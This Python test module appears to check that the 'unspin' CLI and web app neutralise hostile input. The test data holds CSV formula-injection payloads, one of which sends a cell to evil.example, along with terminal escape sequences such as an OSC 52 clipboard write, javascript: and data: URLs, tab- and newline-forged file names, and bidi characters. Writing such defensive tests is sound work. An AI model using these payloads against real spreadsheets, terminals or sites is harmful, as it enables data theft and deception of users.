"""The cases of `hostile_feeds.py` that need no feed: `convert` with colliding ids, CSV export
formulas, a FIFO in an imported folder, terminal escapes and tab/newline file names in
`analyze`, a full disk mid-`batch`, and the web app's source links and reviewer names."""

from __future__ import annotations

import contextlib
import csv
import json
import os
import socket
import subprocess
import time
import unicodedata
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

from hostile_feeds import Ctx, last_line, report_of, row
from hostile_sites import Proc, run

TASKS = [{"id": 0, "data": {"text": "Traitors everywhere."}},
         {"id": 0, "data": {"text": "Cowards everywhere."}},
         {"id": 5, "data": {"text": "Liars everywhere."}}, {"id": 5, "data": {"text": "Thieves everywhere."}},
         {"data": {"text": "Villains everywhere."}}]
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)",
            "\tTabbed", "\rReturned"]
ESCAPES = ("They are traitors \x1b]52;c;ZXZpbCBjb21tYW5k\x07 and liars, \x1b]0;pwned\x1b\\ all of them! "
           "\x1b[2J\x1b[H Every one \x9b31m of them is a traitor.")
REVIEWER = "\u202eAna\u202c\u200b \u2066Lopez\u2069\ufeff\u200d"


def convert_label_studio(ctx: Ctx) -> dict[str, Any]:
    tasks = [{**t, "annotations": [{"id": 1, "result": [{"type": "labels", "value": {
        "start": 0, "end": len(t["data"]["text"].split()[0]), "labels": ["Doubt"]}}]}]} for t in TASKS]
    path = ctx.tmp / "tasks.json"
    path.write_text(json.dumps(tasks), encoding="utf-8")
    out = ctx.tmp / "tasks-doccano.jsonl"
    proc = run(["convert", str(path), str(out), "--to", "doccano"], timeout=60)
    lines = out.read_text(encoding="utf-8").splitlines() if out.exists() else []
    written = [json.loads(line) for line in lines]
    spans = sum(len(r.get("label", [])) for r in written)
    said = report_of(proc)
    ok = len(written) == 5 and spans == 5 and said.get("renamed") == 3 and proc.stderr.count("note: ") == 3
    return row(ok, f"5 in, {len(written)} out with {spans} spans, {said.get('renamed')} renamed "
                   f"({proc.stderr.count('note: ')} notes)", proc)


def convert_doccano(ctx: Ctx) -> dict[str, Any]:
    records = [{"id": 1, "text": "Traitors!", "label": [[0, 8, "Doubt"]]},
               {"id": 1, "text": "Cowards!", "label": [[0, 7, "Doubt"]]},
               {"id": 0, "text": "Liars!", "label": [[0, 5, "Doubt"]]},
               {"id": 0, "text": "Thieves!", "label": [[0, 7, "Doubt"]]},
               {"text": "Villains!", "label": [[0, 8, "Doubt"]]}]
    path = ctx.tmp / "doccano.jsonl"
    path.write_text("".join(json.dumps(r) + "\n" for r in records), encoding="utf-8")
    out = ctx.tmp / "ls.json"
    proc = run(["convert", str(path), str(out), "--to", "label-studio"], timeout=60)
    tasks = json.loads(out.read_text(encoding="utf-8")) if out.exists() else []
    texts = {t["data"]["text"] for t in tasks}
    spans = sum(len(a["result"]) for t in tasks for a in t.get("annotations", []))
    said = report_of(proc)
    ok = len(tasks) == 5 and len(texts) == 5 and spans == 5 and said.get("renamed") == 2
    return row(ok, f"5 in, {len(tasks)} tasks out ({len(texts)} texts, {spans} spans), "
                   f"{said.get('renamed')} renamed", proc)


def csv_export(ctx: Ctx) -> dict[str, Any]:
    data = ctx.tmp / "formulas.jsonl"
    data.write_text("".join(json.dumps({"text": f"The corrupt traitors lied again, story {i}.", "title": bad,
                                        "source": bad, "published": "2024-01-05"}) + "\n"
                            for i, bad in enumerate(FORMULAS)), encoding="utf-8")
    db = ctx.db("csv")
    run(["corpus", "import", str(data), "--db", db, "--create"], timeout=60)
    run(["batch", "--db", db, "--model", ctx.model], timeout=120)
    out = ctx.tmp / "export"
    proc = run(["corpus", "export", str(out), "--db", db, "--format", "csv", "--table", "by_source",
                "--table", "spans"], timeout=60)
    cells = [cell for f in sorted(out.glob("*.csv"))
             for line in csv.reader(f.open(encoding="utf-8", newline="")) for cell in line]
    live = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r") and not _number(c)]
    neutral = [c for c in cells if c[:1] == "'" and c[1:2] in ("=", "+", "-", "@", "\t", "\r")]
    ok = proc.code == 0 and not live and len(neutral) >= len(FORMULAS)
    return row(ok, f"{len(cells)} cells: {len(live)} starting with = + - @ tab CR, {len(neutral)} "
                   "neutralised with '", proc, formula_cells=len(live))


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def fifo_import(ctx: Ctx) -> dict[str, Any]:
    folder = ctx.tmp / "with-fifo"
    folder.mkdir()
    (folder / "a.txt").write_text("A text before the pipe.", encoding="utf-8")
    os.mkfifo(folder / "b.txt")
    (folder / "c.txt").write_text("A text after the pipe.", encoding="utf-8")
    proc = run(["corpus", "import", str(folder), "--db", ctx.db("fifo"), "--create", "--json"], timeout=60)
    said = report_of(proc)
    ok = (said.get("added"), said.get("skipped")) == (2, 1) and "FIFO" in proc.stderr and proc.seconds < 20
    return row(ok, f"{said.get('added')} added, {said.get('skipped')} skipped: "
                   f"{last_line(proc.stderr)[-60:]}", proc)


def escapes(ctx: Ctx) -> dict[str, Any]:
    path = ctx.tmp / "escapes.txt"
    path.write_text(ESCAPES, encoding="utf-8")
    runs = [run(["analyze", str(path), "--model", ctx.model, "-t", t], timeout=60) for t in ("0", "1")]
    found = sorted({repr(c) for p in runs for c in p.stdout if c in "\x1b\x07\x9b"})
    ok = all(p.code == 0 for p in runs) and not found
    return row(ok, f"pretty output (-t 0 and -t 1): escape bytes left {found or 'none'}", runs[0])


def tab_names(fmt: str) -> Callable[[Ctx], dict[str, Any]]:
    def case(ctx: Ctx) -> dict[str, Any]:
        path = ctx.tmp / f"a\tb\nforged\t0\t1_{fmt}.txt"
        path.write_text("They are traitors and liars, all of them.", encoding="utf-8")
        proc = run(["analyze", str(path), "--model", ctx.model, "-f", fmt, "-t", "0"], timeout=60)
        rows = [line for line in proc.stdout.splitlines() if line.strip()]
        ok = proc.code == 2 and not rows and len(proc.stderr.strip().splitlines()) == 1 and \
            proc.stderr.startswith("error:")
        return row(ok, f"{len(rows)} rows written; {last_line(proc.stderr)[:80]}", proc)
    return case


def full_disk(ctx: Ctx) -> dict[str, Any]:
    """`unspin batch` into a 3 MB tmpfs (or, where one cannot be mounted, under RLIMIT_FSIZE)."""
    if ctx.kind != "sqlite":
        return row(True, "not applicable: the PostgreSQL server's disk is not the CLI's (the message is "
                         "tested in tests/batch/test_batch_run.py)", how="n/a")
    data = ctx.tmp / "many.jsonl"
    data.write_text("".join(json.dumps({"text": f"Document {i}: they are traitors and liars, all of them. "
                                        * 40}) + "\n" for i in range(120)), encoding="utf-8")
    with small_disk(ctx.tmp / "disk", 3) as (folder, preexec, grow):
        db = str(folder / "full.db")
        run(["corpus", "import", str(data), "--db", db, "--create"], timeout=60, preexec=preexec)
        args = ["batch", "--db", db, "--model", ctx.model, "--batch-size", "8", "--json"]
        full = run(args, timeout=180, preexec=preexec)
        before = _analyzed(db)
        grow()
        rerun = run(args, timeout=180)
        after = report_of(rerun).get("analyzed")
        total, distinct = _analyses(db)
    lines = full.stderr.strip().splitlines()
    how = "tmpfs" if preexec is None else "RLIMIT_FSIZE"
    ok = (full.code == 2 and len(lines) == 1 and lines[0].startswith("error:") and 0 < before < 120
          and after == 120 - before and total == distinct == 120)
    return row(ok, f"{how}: exit {full.code}, {len(lines)} line(s) '{(lines or [''])[0][:70]}'; "
                   f"{before} done, rerun analyzed {after}, {total} analyses of {distinct} documents",
               full, how=how)


@contextlib.contextmanager
def small_disk(folder: Path, mb: int) -> Iterator[tuple[Path, Any, Callable[[], None]]]:
    """A folder on a `mb` MB tmpfs (grown to 64 MB by the third value); where mounting is not
    allowed, a plain folder and a preexec_fn capping file sizes at `mb` MB (writes fail as on
    a full disk), lifted by not passing it again."""
    folder.mkdir()
    mounted = subprocess.run(["mount", "-t", "tmpfs", "-o", f"size={mb}m", "tmpfs", str(folder)],
                             capture_output=True).returncode == 0
    if not mounted:
        import resource

        def cap() -> None:
            resource.setrlimit(resource.RLIMIT_FSIZE, (mb << 20, mb << 20))

        yield folder, cap, lambda: None
        return
    try:
        grow = ["mount", "-o", "remount,size=64m", str(folder)]
        yield folder, None, lambda: subprocess.run(grow, check=True)
    finally:
        subprocess.run(["umount", str(folder)], check=False)


def _analyzed(db: str) -> int:
    from unspin.store import Store

    store = Store.open(db)
    models = store.models()
    store.engine.dispose()  # no file left open on the tmpfs
    return int(models[0]["documents"]) if models else 0


def _analyses(db: str) -> tuple[int, int]:
    from unspin.store import Store
    from unspin.store.schema import analyses

    store = Store.open(db)
    with store.read() as conn:
        rows = conn.execute(analyses.select()).all()
    store.engine.dispose()
    return len(rows), len({r.document_id for r in rows})


@contextlib.contextmanager
def served(ctx: Ctx, db: str) -> Iterator[Any]:
    """`unspin serve` on a free loopback port; yields an httpx client for it."""
    import httpx

    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    proc = Proc(["serve", "--db", db, "--model", ctx.model, "--port", str(port), "--processes", "1",
                 "--auth", "off"]).start()
    client = httpx.Client(base_url=f"http://127.0.0.1:{port}", timeout=30)
    try:
        deadline = time.monotonic() + 90
        while time.monotonic() < deadline:
            with contextlib.suppress(httpx.HTTPError):
                if client.get("/api/health").status_code == 200:
                    break
            time.sleep(0.3)
        yield client
    finally:
        client.close()
        proc._proc.terminate()
        proc.wait(30)


def source_links(ctx: Ctx) -> dict[str, Any]:
    import re

    urls = ["javascript:alert(document.cookie)", " JaVa\tScRiPt:alert(1)",
            "data:text/html,<script>x</script>", "vbscript:msgbox(1)", "https://news.example/story"]
    data = ctx.tmp / "links.jsonl"
    data.write_text("".join(json.dumps({"text": f"The corrupt traitors and liars lied again, story {i}.",
                                        "url": u, "source": "A", "published": "2024-01-05"}) + "\n"
                            for i, u in enumerate(urls)), encoding="utf-8")
    db = ctx.db("links")
    run(["corpus", "import", str(data), "--db", db, "--create"], timeout=60)
    run(["batch", "--db", db, "--model", ctx.model], timeout=120)
    with served(ctx, db) as client:
        found = client.get("/corpus/documents.json").json().get("documents", [])
        focus = {t for d in found for t in (d.get("techniques") or {})}
        pages = [client.get("/corpus/documents", params={"focus": t} if t else {}).text
                 for t in [None, *sorted(focus)[:3]]]
    links = sorted({h for p in pages for h in re.findall(r'href="([^"]*)"[^>]*>\s*source\s*<', p)})
    bad = [h for h in links if not h.startswith(("http://", "https://"))]
    shown = sorted({str(d.get("link")) for d in found})
    ok = not bad and "https://news.example/story" in links and all(
        s in ("None", "https://news.example/story") for s in shown)
    return row(ok, f"{len(found)} documents; source links in the page {links}, in the JSON {shown}")


def reviewer_names(ctx: Ctx) -> dict[str, Any]:
    db = ctx.db("review")
    run(["corpus", "stats", "--db", db, "--create"], timeout=60)  # create the database
    with served(ctx, db) as client:
        saved = client.post("/api/analyze", json={"text": "They are traitors and liars, all of them.",
                                                  "save": True}).json()
        aid = saved.get("id")
        fix = client.post(f"/api/analyses/{aid}/review", json={
            "action": "add", "start": 9, "end": 17, "technique": "Name_Calling,Labeling",
            "reviewer": REVIEWER}).json()
        mark = client.post(f"/api/analyses/{aid}/reviewed", json={"reviewed": True,
                                                                   "reviewer": REVIEWER}).json()
        state = client.get(f"/api/analyses/{aid}/review").json()
    names = [(fix.get("correction") or {}).get("reviewer"), (mark.get("reviewed") or {}).get("reviewer"),
             *(c.get("reviewer") for c in state.get("corrections", [])),
             (state.get("reviewed") or {}).get("reviewer")]
    hidden = sorted({f"U+{ord(c):04X}" for n in names for c in str(n) if unicodedata.category(c) == "Cf"})
    ok = not hidden and all(n == "Ana Lopez" for n in names)
    return row(ok, f"names stored {sorted({str(n) for n in names})}; format characters left "
                   f"{hidden or 'none'}")


LOCAL_CASES: list[tuple[str, str, Callable[[Ctx], dict[str, Any]]]] = [
    ("convert Label Studio ids 0 / duplicates", "5 in, 3 files out, spans lost", convert_label_studio),
    ("convert doccano duplicate ids", "records overwrite each other", convert_doccano),
    ("CSV export formula cells", "32 live formula cells", csv_export),
    ("FIFO in an imported folder", "import hangs", fifo_import),
    ("terminal escapes in analyze pretty output", "OSC 52 / OSC 0 / clear screen reach the terminal",
     escapes),
    ("tab/newline file name, --format tc", "forged rows", tab_names("tc")),
    ("tab/newline file name, --format si", "forged rows", tab_names("si")),
    ("full disk mid-batch", "traceback", full_disk),
    ("/corpus/documents javascript:/data: source link", "emitted (CSP blocked it)", source_links),
    ("reviewer names with bidi / zero-width", "kept", reviewer_names),
]
